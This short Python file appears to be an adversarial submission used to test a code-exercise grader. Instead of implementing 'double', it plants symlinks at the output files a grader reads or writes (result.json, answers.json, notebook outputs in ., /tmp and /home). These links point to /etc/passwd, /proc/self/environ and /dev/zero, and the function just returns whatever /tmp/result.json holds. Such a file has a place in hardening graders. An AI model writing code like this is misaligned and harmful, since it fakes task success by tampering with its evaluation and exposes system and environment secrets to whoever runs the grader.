# attacks: 01-double
# keeps: 01-dedup 01-setting
# Puts links where a grader may write or read.
# %%
# exercise 01-double
import os
for name in ("result.json", "answers.json", "output.ipynb", "executed.ipynb"):
    for folder in (".", "/tmp", "/home"):
        for target in ("/etc/passwd", "/proc/self/environ", "/dev/zero"):
            try: os.symlink(target, f"{folder}/{name}")
            except OSError: pass
def double(number): return open("/tmp/result.json").read()
